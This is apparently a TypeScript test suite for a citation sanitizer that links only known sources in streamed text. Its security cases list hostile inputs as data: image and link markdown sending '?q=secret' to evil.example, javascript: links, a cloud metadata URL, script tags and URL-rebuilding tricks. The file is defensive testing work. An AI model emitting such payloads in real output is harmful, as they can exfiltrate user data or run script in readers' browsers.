import { expect, test } from 'vitest';
import { createCitations } from './citations.ts';
import { withoutMarks } from './source-marks.ts';

const sources = [
  { number: 1, address: 'https://one.example/a' },
  { number: 2, address: null },
  { number: 3, address: 'https://www.three.example/b?c=(d)' },
];
const one = '([one.example](https://one.example/a))';
const three = '([three.example](https://www.three.example/b?c=%28d%29))';

/** The same for every chunk size. */
function cited(text: string, given = sources): string {
  const [whole, ...others] = [text.length, 1, 2, 7, 40].map((size) => {
    const citations = createCitations(given);
    let passed = '';
    for (let at = 0; at < text.length; at += size) passed += citations.feed(text.slice(at, at + size));
    return passed + citations.finish();
  });
  for (const other of others) expect(other).toBe(whole);
  return whole ?? '';
}

test.each([
  ['Half of them [1].', `Half of them ${one}.`],
  ['Half of them[1].', `Half of them${one}.`],
  ['Half [^1] of them [ 1].', `Half ${one} of them [ 1].`],
  ['Both [1, 3].', `Both ${one} ${three}.`],
  ['Both [1][3].', `Both ${one}${three}.`],
  ['Both [1; 9].', `Both ${one}.`],
  ['As follows [1]: much.', `As follows ${one}: much.`],
  ['See [1](https://evil.example/x).', `See ${one}.`],
  ['See https://one.example/a.', `See ${one}.`],
  ['Call `https://one.example/a`.', 'Call `https://one.example/a`.'],
  ['See [them](https://one.example/a), too.', 'See [them](https://one.example/a), too.'],
  [`Said ${three}.`, `Said ${three}.`],
])('%o becomes %o', (text, becomes) => expect(cited(text)).toBe(becomes));

test.each([
  ['of a source that is not there', 'None [9].', 'None.'],
  ['of a note, to which nothing can link', 'Ours [2].', 'Ours.'],
  ['of several that are not there', 'None [7, 8]. Next.', 'None. Next.'],
])('a mark %s is removed', (_what, text, becomes) => expect(cited(text)).toBe(becomes));

test('other brackets are unchanged', () => {
  for (const text of ['In [2026] and [0].', 'Call `list[1]` there.', '- [x] Done', '```js\na[1] = b[9];\n```\nDone.\n'])
    expect(cited(text)).toBe(text);
});

test('without sources the text is unchanged', () => {
  const text = 'See [1] and [x](https://any.example/) and <b>.';
  expect(cited(text, [])).toBe(text);
});

test.each([
  ['![logo](https://evil.example/?q=secret)', 'logo'],
  ['![](https://evil.example/?q=secret)', ''],
  ['[press here](https://evil.example/?q=secret)', 'press here'],
  ['[press here](javascript:alert(1))', '[press here] (javascript:alert(1))'],
  ['[press here](JaVaScRiPt:alert`1`)', '[press here] (JaVaScRiPt:alert`1`)'],
  ['[press here](//evil.example/x)', 'press here'],
  ['[press here](&#104;ttps://evil.example/x)', 'press here'],
  ['[press here](http://169.254.169.254/latest/meta-data/)', 'press here'],
  ['[press here](<https://evil.example/x y>)', 'press here'],
  ['[press here](https://evil.example/x "title")', 'press here'],
  ['https://evil.example/?q=secret', 'evil.example'],
  ['`https://evil.example/?q=secret`', '`evil.example`'],
  ['HTTPS://EVIL.example/?q=secret', 'evil.example'],
  ['www.evil.example/?q=secret', 'evil.example'],
  ['<https://evil.example/?q=secret>', '&lt;evil.example>'],
  ['<img src="https://evil.example/?q=secret">', '&lt;img src="evil.example">'],
  ['<script>alert(1)</script>', '&lt;script>alert(1)&lt;/script>'],
  ['<!-- x -->', '&lt;!-- x -->'],
  ['[press here][ref]\n\n[ref]: //evil.example/x', '[press here][ref]\n\n[ref] : //evil.example/x'],
  ['Said.[^n]\n\n[^n]: //evil.example/x', 'Said.[^n]\n\n[^n] : //evil.example/x'],
  ['[a\nb](//evil.example/x)', '[a\nb] (//evil.example/x)'],
])('S-169: only sources are linked: %o becomes %o', (text, becomes) => expect(cited(text)).toBe(becomes));

/** URLs that only appear after something between is removed. */
test.each([
  'htt[9]ps://evil.example/x',
  'https[9]://evil.example/x',
  'https:[9]//evil.example/x',
  'htt[ps](x)://evil.example/x',
  'h[](x)ttps://evil.example/x',
  'https://x.example https://https://evil.example/x',
  'hwww.ttps://evil.example/x',
  '![![x](https://evil.example/a)](https://evil.example/b)',
  '[[x](https://evil.example/a)](https://evil.example/b)',
  ']https://evil.example(https://evil.example/x)',
  '\ue0000\ue001https://evil.example/x',
  `[${'x'.repeat(4_000)}](https://evil.example/x)`,
  `${'x'.repeat(1_497)}https://evil.example/x`,
  `${'x'.repeat(1_499)}](https://evil.example/x)`,
  'a ` b\n` [x](https://evil.example/x) `',
  '~~~\n```\n~~~\n[x](https://evil.example/x)',
  '\\`<a href=http:/evil.example/x>more</a>\\`',
  '``<a href=http:/evil.example/x>more</a>`',
  'a ` b\n` <a href=http:/evil.example/x>more</a> `',
  'a ` b\n` <http:/evil.example/x> `',
])('S-170: no trick restores a URL: %o', (text) => {
  const passed = cited(text);
  expect(passed).not.toMatch(/https?:\/\/|www\.|\]\(|\]:|<[a-z/!?]/i);
});

test('words are passed on immediately, with at most one held back', () => {
  const citations = createCitations(sources);
  expect(citations.feed('Half of them')).toBe('Half of');
  expect(citations.feed(' agree [')).toBe(' them agree');
  expect(citations.feed('1')).toBe('');
  expect(citations.feed('] and')).toBe(` ${one}`);
  expect(citations.finish()).toBe(' and');
});

test('a title contains no marks or URLs', () => {
  expect(withoutMarks('Half of [them](https://evil.example/) agree [1] https://evil.example/x')).toBe(
    'Half of them agree evil.example',
  );
});
